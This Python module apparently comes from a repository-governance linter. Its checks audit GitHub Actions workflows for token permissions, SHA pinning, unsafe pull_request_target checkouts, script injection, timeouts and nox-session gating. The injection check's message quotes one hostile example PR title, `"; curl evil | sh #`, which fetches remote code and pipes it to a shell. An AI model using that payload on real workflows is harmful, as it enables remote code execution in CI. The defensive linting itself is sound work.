"""GitHub Actions workflows: present, hardened, and calling nothing but nox sessions.

CI jobs are named after the nox session they run (job id == session name, no ``name:``),
so a branch ruleset can require exactly the gates ``nox`` runs locally.
"""

from __future__ import annotations

import ast
import re
import shlex
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, ClassVar

import yaml

from govkit.checks.base import (
    EVERY_REPOSITORY,
    Applies,
    Check,
    Family,
    Finding,
    Skip,
    fact,
    register,
)
from govkit.profile import Profile
from govkit.repo import Repo

NOXFILE = "noxfile.py"
CI_WORKFLOW = ".github/workflows/ci.yml"
_SHA = re.compile(r"[^@\s]+@[0-9a-f]{40}")
_DOCKER_DIGEST = re.compile(r"docker://\S+@sha256:[0-9a-f]{64}")
_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
# Contexts an outsider controls (titles, bodies, branch names, commit messages, ...).
_UNTRUSTED = re.compile(r"\bgithub\s*\.\s*(?:event\b|head_ref\b)|\bgithub\s*\[\s*'event'")
_PR_HEAD = re.compile(
    r"github\.event\.(?:pull_request\.head|workflow_run\.head)|github\.head_ref|refs/pull/"
)
_SESSION_FLAGS = ("-s", "--session", "--sessions", "-e")
_PR_EVENTS = ("pull_request", "pull_request_target")

JOB_SNIPPET = """\
  {name}:
    runs-on: ubuntu-24.04
    timeout-minutes: 20
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
        with:
          persist-credentials: false
      - uses: actions/setup-python@0b93645e9fea7318ecaed2b359559ac225c90a2b # v5.3.0
        with:
          python-version: "3.11"
      - run: {install}
      - run: nox -s {name}"""

CONCURRENCY_SNIPPET = """\
concurrency:
  group: ${{ github.workflow }}-${{ github.ref }}
  cancel-in-progress: true"""


def job_snippet(repo: Repo, name: str) -> str:
    """A CI job for session `name`, installing nox the way the repository's workflows do."""
    installs = [
        run.strip()
        for flow in workflows(repo)
        for job in flow.jobs.values()
        for run in _job_runs(flow, job)
        if "\n" not in run.strip() and re.search(r"\bpip install\b.*\bnox\b", run)
    ]
    install = installs[0] if installs else "python -m pip install nox uv"
    return JOB_SNIPPET.format(name=name, install=install)


@dataclass(frozen=True)
class Workflow:
    """One parsed workflow file, with the YAML nodes that know each value's line."""

    path: str
    doc: dict[Any, Any]
    node: yaml.Node | None = None

    def line(self, *keys: str | int) -> int | None:
        """The 1-based line of the value at keys (a mapping entry: its key's line)."""
        node, line = self.node, None
        for key in keys:
            if isinstance(node, yaml.MappingNode):
                entry = next((e for e in node.value if str(e[0].value) == str(key)), None)
                if entry is None:
                    return line
                line, node = entry[0].start_mark.line + 1, entry[1]
            elif isinstance(node, yaml.SequenceNode) and isinstance(key, int):
                if key >= len(node.value):
                    return line
                node = node.value[key]
                line = node.start_mark.line + 1
            else:
                return line
        return line

    def text_line(self, *keys: str | int, offset: int = 0) -> int | None:
        """The line of the offset-th line of the string at keys (a `run:` block's lines)."""
        node = self.node
        for key in keys:
            if isinstance(node, yaml.MappingNode):
                node = next((v for k, v in node.value if str(k.value) == str(key)), None)
            elif isinstance(node, yaml.SequenceNode) and isinstance(key, int):
                node = node.value[key] if key < len(node.value) else None
            else:
                node = None
        if not isinstance(node, yaml.ScalarNode):
            return self.line(*keys)
        block = node.style in ("|", ">")
        return node.start_mark.line + 1 + (1 + offset if block else offset)

    @property
    def events(self) -> set[str]:
        # YAML 1.1 reads the key `on` as the boolean True.
        on = self.doc.get("on", self.doc.get(True))
        if isinstance(on, str):
            return {on}
        if isinstance(on, list):
            return {str(e) for e in on}
        if isinstance(on, dict):
            return {str(e) for e in on}
        return set()

    @property
    def jobs(self) -> dict[str, dict[str, Any]]:
        jobs = self.doc.get("jobs")
        if not isinstance(jobs, dict):
            return {}
        return {str(k): v for k, v in jobs.items() if isinstance(v, dict)}

    def steps(self, job: dict[str, Any]) -> list[dict[str, Any]]:
        steps = job.get("steps")
        return [s for s in steps if isinstance(s, dict)] if isinstance(steps, list) else []

    @property
    def on_pull_requests(self) -> bool:
        return bool(self.events.intersection(_PR_EVENTS))


def workflows(repo: Repo) -> list[Workflow]:
    """Every workflow file of the repository that parses as a mapping (parsed once per repo)."""
    return repo.memo("workflows", lambda: _parse_workflows(repo))


fact("workflows")(workflows)  # checks may take `workflows` by name


def all_jobs(repo: Repo) -> Iterator[tuple[Workflow, str, dict[str, Any]]]:
    """(workflow, job id, job) for every job of every workflow."""
    for flow in workflows(repo):
        for job_id, job in flow.jobs.items():
            yield flow, job_id, job


def _parse_workflows(repo: Repo) -> list[Workflow]:
    found = []
    for path in repo.workflow_files:
        try:
            node = yaml.compose(repo.text(path) or "", Loader=yaml.SafeLoader)
            doc = None if node is None else yaml.SafeLoader("").construct_document(node)
        except yaml.YAMLError:
            continue
        if isinstance(doc, dict):
            found.append(Workflow(path, doc, node))
    return found


# Stands for a `${{ ... }}` expression inside a session name: its value is known only at run time.
EXPRESSION_MARK = "\x00"


def nox_calls(script: str) -> list[str]:
    """Session names a shell script runs with `nox -s NAME ...` (also `uv run nox`, `uvx nox`).

    An expression (`nox -s test-${{ matrix.python }}`) is not read as words: it becomes
    EXPRESSION_MARK in the name (`test-\x00`), and a name that is only an expression is dropped.
    """
    names: list[str] = []
    script = _EXPRESSION.sub(EXPRESSION_MARK, script)
    for line in script.splitlines():
        try:
            words = shlex.split(line, comments=True)
        except ValueError:
            words = line.split()
        in_nox, collecting = False, False
        for word in words:
            if word in {"&&", "||", ";", "|"}:
                in_nox = collecting = False
            elif word == "nox" or word.endswith("/nox"):
                in_nox, collecting = True, False
            elif in_nox and word in _SESSION_FLAGS:
                collecting = True
            elif in_nox and word.startswith(tuple(f"{f}=" for f in _SESSION_FLAGS)):
                names.append(word.split("=", 1)[1])
            elif collecting and not word.startswith("-"):
                names.append(word)
            else:
                collecting = False
    return [name for name in names if name.strip(EXPRESSION_MARK + "'\"")]


def nox_sessions(source: str) -> dict[str, bool]:
    """Sessions of a noxfile, name -> runs by default, read with `ast` (the file is not run)."""
    tree = ast.parse(source)
    sessions: dict[str, bool] = {}
    for node in ast.walk(tree):
        if not isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
            continue
        for decorator in node.decorator_list:
            call = decorator if isinstance(decorator, ast.Call) else None
            target = call.func if call else decorator
            if not _is_session_decorator(target):
                continue
            name, default = node.name, True
            for keyword in call.keywords if call else []:
                if keyword.arg == "name" and isinstance(keyword.value, ast.Constant):
                    name = str(keyword.value.value)
                if keyword.arg == "default" and isinstance(keyword.value, ast.Constant):
                    default = bool(keyword.value.value)
            sessions[name] = default
    chosen = _options_sessions(tree)
    if chosen is not None:
        sessions = {name: name in chosen for name in sessions}
    return sessions


def _is_session_decorator(node: ast.expr) -> bool:
    if isinstance(node, ast.Attribute):
        return (
            node.attr == "session" and isinstance(node.value, ast.Name) and node.value.id == "nox"
        )
    return isinstance(node, ast.Name) and node.id == "session"


def _options_sessions(tree: ast.Module) -> set[str] | None:
    """The names in `nox.options.sessions = [...]`, which replace the default set."""
    for node in ast.walk(tree):
        if not isinstance(node, ast.Assign):
            continue
        for target in node.targets:
            if (
                isinstance(target, ast.Attribute)
                and target.attr == "sessions"
                and isinstance(target.value, ast.Attribute)
                and target.value.attr == "options"
                and isinstance(node.value, ast.List | ast.Tuple)
            ):
                return {str(e.value) for e in node.value.elts if isinstance(e, ast.Constant)}
    return None


def _job_runs(flow: Workflow, job: dict[str, Any]) -> Iterator[str]:
    for step in flow.steps(job):
        run = step.get("run")
        if isinstance(run, str):
            yield run


def _job_sessions(flow: Workflow, job: dict[str, Any]) -> list[str]:
    return [name for run in _job_runs(flow, job) for name in nox_calls(run)]


def session_matches(called: str, session: str) -> bool:
    # `nox -s tests-3.11` and `nox -s "tests(python='3.11')"` run a parametrized `tests`;
    # `nox -s tests-${{ matrix.python }}` too (the expression is EXPRESSION_MARK here).
    if EXPRESSION_MARK in called:
        known = called.split(EXPRESSION_MARK, 1)[0]
        return session.startswith(known) or known.startswith((f"{session}-", f"{session}("))
    return called == session or called.startswith((f"{session}-", f"{session}("))


def _noxfile_sessions(repo: Repo) -> dict[str, bool]:
    source = repo.text(NOXFILE)
    if source is None:
        raise Skip(f"no {NOXFILE}: CI jobs cannot be matched to nox sessions")
    try:
        return nox_sessions(source)
    except SyntaxError as error:
        raise Skip(f"{NOXFILE} does not parse: {error.msg} (line {error.lineno})") from error


Where = tuple[str, str, int | None]  # (what is wrong, file, line)


def _findings(header: str, found: list[Where], fix: str) -> list[Finding]:
    """One finding per place: what is wrong there, then the shared explanation and fix."""
    return [Finding(f"{what}\n{header}\n{fix}", path, line) for what, path, line in found]


def _run_line(flow: Workflow, job_id: str, needle: str) -> int | None:
    """The line of the first `run:` line of job JOB_ID holding NEEDLE (else the job's line)."""
    for index, step in enumerate(flow.steps(flow.jobs.get(job_id, {}))):
        run = step.get("run")
        if not isinstance(run, str) or needle not in run:
            continue
        offset = next((n for n, text in enumerate(run.splitlines()) if needle in text), 0)
        return flow.text_line("jobs", job_id, "steps", index, "run", offset=offset)
    return flow.line("jobs", job_id)


class WorkflowCheck(Check):
    """GitHub Actions workflows: what every workflow check shares.

    No check `requires` another: a workflow that fails one check is still examined by the rest.
    """

    family: ClassVar[Family] = "ci"
    ticket = "T01"
    applies: ClassVar[Applies] = Applies(needs=("github-actions",))


@register
class GH100(WorkflowCheck):
    """A CI workflow runs on pull requests"""

    applies = EVERY_REPOSITORY
    scope = "health"
    kinds = frozenset({"no-ci", "no-pr-ci"})
    severity = "P0"
    files_expected = (CI_WORKFLOW,)

    def check(self, repo: Repo, profile: Profile) -> list[Finding]:
        broken: list[Where] = []
        for path in repo.workflow_files:
            try:
                doc = repo.yaml(path)
            except yaml.YAMLError as error:
                mark = getattr(error, "problem_mark", None)
                line = mark.line + 1 if mark is not None else None
                broken.append((f"invalid YAML ({str(error).splitlines()[0]})", path, line))
                continue
            if not isinstance(doc, dict) or not isinstance(doc.get("jobs"), dict):
                broken.append(("not a workflow (no `jobs:` mapping)", path, None))
        found = _findings(
            "GitHub cannot run this workflow.",
            broken,
            "Validate with `check-jsonschema --builtin-schema vendor.github-workflows FILE`.",
        )
        if any(flow.events & {"pull_request"} for flow in workflows(repo)):
            return found
        other = sorted(profile.ci - {"github-actions"})
        if other and not repo.workflow_files:
            raise Skip(f"CI runs on {', '.join(other)}; this check reads GitHub Actions only")
        fix = (
            f"Create {CI_WORKFLOW} with one job per gate (or add `pull_request:` to a workflow's "
            "`on:`), starting with:\non:\n  pull_request:\n  push:\n    branches: [main]\n"
            "permissions: {}\n" + CONCURRENCY_SNIPPET + "\njobs:\n" + job_snippet(repo, "lint")
        )
        if not workflows(repo):
            return [*found, Finding(f"No CI: no workflow under .github/workflows/. {fix}")]
        return [
            *found,
            *(
                Finding(
                    f"Runs on {', '.join(sorted(flow.events)) or 'nothing'}, never on "
                    "`pull_request`: no workflow tests a change before it is merged. " + fix,
                    flow.path,
                    flow.line("on"),
                )
                for flow in workflows(repo)
            ),
        ]


@register
class GH101(WorkflowCheck):
    """Workflow token permissions are read-only at the top, writes granted per job"""

    scope = "health"
    kinds = frozenset({"workflow-permissions"})
    family = "security"
    severity = "P0"

    def check(self, repo: Repo, workflows: list[Workflow]) -> list[Finding]:
        bad: list[Where] = []
        for flow in workflows:
            every_job_sets = bool(flow.jobs) and all("permissions" in j for j in flow.jobs.values())
            if "permissions" not in flow.doc and not every_job_sets:
                line = flow.line("jobs")
                bad.append(
                    ("no top-level `permissions:` (the default may be write)", flow.path, line)
                )
            elif "permissions" in flow.doc and not _read_only(flow.doc["permissions"]):
                line = flow.line("permissions")
                bad.append((f"top-level `permissions: {flow.doc['permissions']}`", flow.path, line))
        return _findings(
            "Workflow-wide token permissions must be empty or read-only.",
            bad,
            "Set at the top of each workflow:\n"
            "permissions: {}            # or: permissions: {contents: read}\n"
            "and grant a write only to the job that needs it:\n"
            "jobs:\n  release:\n    permissions:\n      contents: write",
        )


def _read_only(permissions: Any) -> bool:
    if permissions == "read-all" or permissions == {}:
        return True
    return isinstance(permissions, dict) and all(
        v in ("read", "none") for v in permissions.values()
    )


@register
class GH102(WorkflowCheck):
    """Every action and reusable workflow is pinned to a full commit SHA"""

    scope = "health"
    kinds = frozenset({"action-unpinned"})
    family = "security"
    severity = "P1"

    def check(self, repo: Repo) -> list[Finding]:
        bad: list[Where] = []
        for flow, job_id, job in all_jobs(repo):
            refs = [("uses", job.get("uses"), flow.line("jobs", job_id, "uses"))] + [
                (f"steps[{i}]", step.get("uses"), flow.line("jobs", job_id, "steps", i, "uses"))
                for i, step in enumerate(flow.steps(job))
            ]
            for where, ref, line in refs:
                if isinstance(ref, str) and not _pinned(ref):
                    bad.append((f"jobs.{job_id}.{where} uses `{ref}`", flow.path, line))
        return _findings(
            "Tags and branches can be moved to other code; pin each to a commit SHA.",
            bad,
            "Replace the tag with its 40-character commit SHA and keep the tag as a comment:\n"
            "  uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n"
            "Find a tag's SHA with `git ls-remote https://github.com/OWNER/REPO refs/tags/TAG`; "
            "Docker actions: `docker://IMAGE@sha256:DIGEST`.",
        )


def _pinned(ref: str) -> bool:
    ref = ref.strip()
    if ref.startswith("./"):
        return True
    if ref.startswith("docker://"):
        return bool(_DOCKER_DIGEST.fullmatch(ref))
    return bool(_SHA.fullmatch(ref))


@register
class GH103(WorkflowCheck):
    """No pull_request_target or workflow_run workflow checks out the pull request's code"""

    scope = "health"
    kinds = frozenset({"pr-target-checkout"})
    family = "security"
    severity = "P0"

    def check(self, repo: Repo, workflows: list[Workflow]) -> list[Finding]:
        bad: list[Where] = []
        for flow in workflows:
            privileged = flow.events & {"pull_request_target", "workflow_run"}
            if not privileged:
                continue
            for job_id, job in flow.jobs.items():
                for i, step in enumerate(flow.steps(job)):
                    if _checks_out_head(step):
                        keys = ("with", "ref") if "uses" in step else ("run",)
                        line = flow.line("jobs", job_id, "steps", i, *keys)
                        bad.append(
                            (
                                f"jobs.{job_id}.steps[{i}] checks out the PR head "
                                f"under `{'/'.join(sorted(privileged))}`",
                                flow.path,
                                line,
                            )
                        )
        return _findings(
            "This runs untrusted code with secrets and a write token.",
            bad,
            "Build and test PR code under `on: pull_request` (read-only token, no secrets). "
            "Keep `pull_request_target`/`workflow_run` for jobs that never check out or run the "
            "PR's code (labels, comments), e.g. a `pull_request` workflow uploads an artifact and "
            "a `workflow_run` workflow only reads it.",
        )


def _checks_out_head(step: dict[str, Any]) -> bool:
    uses, run = step.get("uses"), step.get("run")
    if isinstance(uses, str) and uses.startswith("actions/checkout"):
        with_ = step.get("with")
        ref = with_.get("ref") if isinstance(with_, dict) else None
        return isinstance(ref, str) and bool(_PR_HEAD.search(ref))
    if isinstance(run, str) and re.search(
        r"\bgit\s+(?:fetch|checkout|switch)|gh\s+pr\s+checkout", run
    ):
        return bool(_PR_HEAD.search(run)) or "gh pr checkout" in run
    return False


@register
class GH104(WorkflowCheck):
    """No untrusted `${{ github.event.* }}` is expanded inside a `run:` script"""

    scope = "health"
    kinds = frozenset({"untrusted-expression"})
    family = "security"
    severity = "P0"

    def check(self, repo: Repo) -> list[Finding]:
        bad: list[Where] = []
        first = ""
        for flow, job_id, job in all_jobs(repo):
            for i, step in enumerate(flow.steps(job)):
                run = step.get("run")
                if not isinstance(run, str):
                    continue
                for expression in _EXPRESSION.findall(run):
                    if _UNTRUSTED.search(expression):
                        first = first or expression.strip()
                        offset = next(
                            (n for n, text in enumerate(run.splitlines()) if expression in text), 0
                        )
                        line = flow.text_line("jobs", job_id, "steps", i, "run", offset=offset)
                        bad.append(
                            (
                                f"jobs.{job_id}.steps[{i}].run expands "
                                f"`${{{{ {expression.strip()} }}}}`",
                                flow.path,
                                line,
                            )
                        )
        var = _env_name(first)
        return _findings(
            "Expressions are pasted into the script before the shell runs: a PR title like "
            '`"; curl evil | sh #` becomes code.',
            bad,
            "Pass the value through an environment variable and quote it in the script:\n"
            f"  - env:\n      {var}: ${{{{ {first} }}}}\n"
            f'    run: echo "${var}"',
        )


def _env_name(expression: str) -> str:
    """`github.event.pull_request.title` -> PR_TITLE: a name for the environment variable."""
    words = [w for w in re.split(r"[^A-Za-z0-9_]+", expression) if w][-2:]
    name = "_".join(words).replace("pull_request", "pr").upper()
    return name or "VALUE"


@register
class GH105(WorkflowCheck):
    """Pull request workflows cancel superseded runs (concurrency, cancel-in-progress)"""

    scope = "adoption"
    kinds = frozenset()
    severity = "P2"

    def check(self, repo: Repo, workflows: list[Workflow]) -> list[Finding]:
        bad: list[Where] = []
        for flow in workflows:
            if not flow.on_pull_requests:
                continue
            concurrency = flow.doc.get("concurrency")
            cancel = (
                concurrency.get("cancel-in-progress") if isinstance(concurrency, dict) else None
            )
            if cancel is not True and not (isinstance(cancel, str) and "${{" in cancel):
                line = flow.line("concurrency") or flow.line("jobs")
                what = "no top-level concurrency with `cancel-in-progress: true`"
                bad.append((what, flow.path, line))
        return _findings(
            "Each push to a PR queues a new run next to the stale ones.",
            bad,
            "Add at the top of the workflow:\n" + CONCURRENCY_SNIPPET,
        )


@register
class GH106(WorkflowCheck):
    """Every job sets timeout-minutes"""

    scope = "health"
    kinds = frozenset({"no-timeout"})
    severity = "P1"

    def check(self, repo: Repo) -> list[Finding]:
        bad: list[Where] = [
            (
                f"jobs.{job_id} has no `timeout-minutes`",
                flow.path,
                flow.line("jobs", job_id),
            )
            for flow, job_id, job in all_jobs(repo)
            if "uses" not in job and "timeout-minutes" not in job
        ]
        return _findings(
            "A hung job otherwise holds a runner for 6 hours.",
            bad,
            "Add to each job, next to `runs-on:` (a little above its usual duration):\n"
            "    timeout-minutes: 20",
        )


@register
class GH107(WorkflowCheck):
    """Every CI job runs a nox session (`nox -s NAME`)"""

    scope = "adoption"
    kinds = frozenset()
    severity = "P1"
    ticket = "T17"

    def check(self, repo: Repo) -> list[Finding]:
        bad: list[Where] = [
            (f"jobs.{job_id} runs no nox session", flow.path, flow.line("jobs", job_id))
            for flow, job_id, job in all_jobs(repo)
            if "uses" not in job and not _job_sessions(flow, job)
        ]
        return _findings(
            "Gates live in noxfile.py so local and CI runs are the same.",
            bad,
            "Move the job's commands into a nox session and make its last step:\n"
            "      - run: nox -s JOB_ID",
        )


@register
class GH108(WorkflowCheck):
    """Every `nox -s NAME` in a workflow names a real nox session"""

    scope = "health"
    kinds = frozenset()
    severity = "P1"
    ticket = "T17"
    files_expected = (CI_WORKFLOW, "noxfile.py")

    def check(self, repo: Repo) -> list[Finding]:
        sessions = _noxfile_sessions(repo)
        bad: list[Where] = [
            (
                f"jobs.{job_id} runs `nox -s {called.replace(EXPRESSION_MARK, '${{ ... }}')}`",
                flow.path,
                _run_line(flow, job_id, called.split(EXPRESSION_MARK)[0]),
            )
            for flow, job_id, job in all_jobs(repo)
            for called in _job_sessions(flow, job)
            if not any(session_matches(called, s) for s in sessions)
        ]
        return _findings(
            f"This session is not in {NOXFILE} (nox would fail with 'Sessions not found').",
            bad,
            f"Use one of: {', '.join(sorted(sessions)) or '(none)'}; or add the session:\n"
            "@nox.session\ndef NAME(session: nox.Session) -> None:\n"
            '    """One line: what this gate proves."""',
        )


@register
class GH109(WorkflowCheck):
    """Every default nox session has a CI job of the same name"""

    scope = "adoption"
    kinds = frozenset()
    severity = "P1"
    ticket = "T17"
    files_expected = (CI_WORKFLOW, "noxfile.py")

    def check(self, repo: Repo) -> str | None:
        defaults = sorted(name for name, default in _noxfile_sessions(repo).items() if default)
        jobs = {
            job_id: (flow, job)
            for flow in workflows(repo)
            if flow.on_pull_requests
            for job_id, job in flow.jobs.items()
        }
        missing, problems = [], []
        for name in defaults:
            if name not in jobs:
                missing.append(name)
                continue
            flow, job = jobs[name]
            if not any(session_matches(called, name) for called in _job_sessions(flow, job)):
                problems.append(f"{flow.path}: jobs.{name} does not run `nox -s {name}`")
            if "name" in job:
                problems.append(
                    f"{flow.path}: jobs.{name} sets `name:`; remove it so the status "
                    f"check is called `{name}`"
                )
        if not missing and not problems:
            return None
        lines = problems + [f"no pull-request job `{name}`" for name in missing]
        fix = "Each default session is a required status check named after it."
        if missing:
            fix += f" Add under `jobs:` in {CI_WORKFLOW}:\n" + "\n".join(
                job_snippet(repo, name) for name in missing
            )
        return "\n".join(["CI and noxfile.py disagree:", *(f"  {line}" for line in lines), fix])


@register
class GH110(WorkflowCheck):
    """A secrets scan job (`nox -s secrets`) runs on pull requests"""

    scope = "adoption"
    kinds = frozenset()
    family = "security"
    severity = "P0"
    ticket = "T16"

    def check(self, repo: Repo) -> str | None:
        for flow in workflows(repo):
            if flow.on_pull_requests and any(
                "secrets" in _job_sessions(flow, job) for job in flow.jobs.values()
            ):
                return None
        return (
            "No pull-request job runs the secrets gate. Add a `secrets` nox session that runs "
            "`govkit secrets scan` and, under `jobs:` in "
            + CI_WORKFLOW
            + ":\n"
            + job_snippet(repo, "secrets")
        )
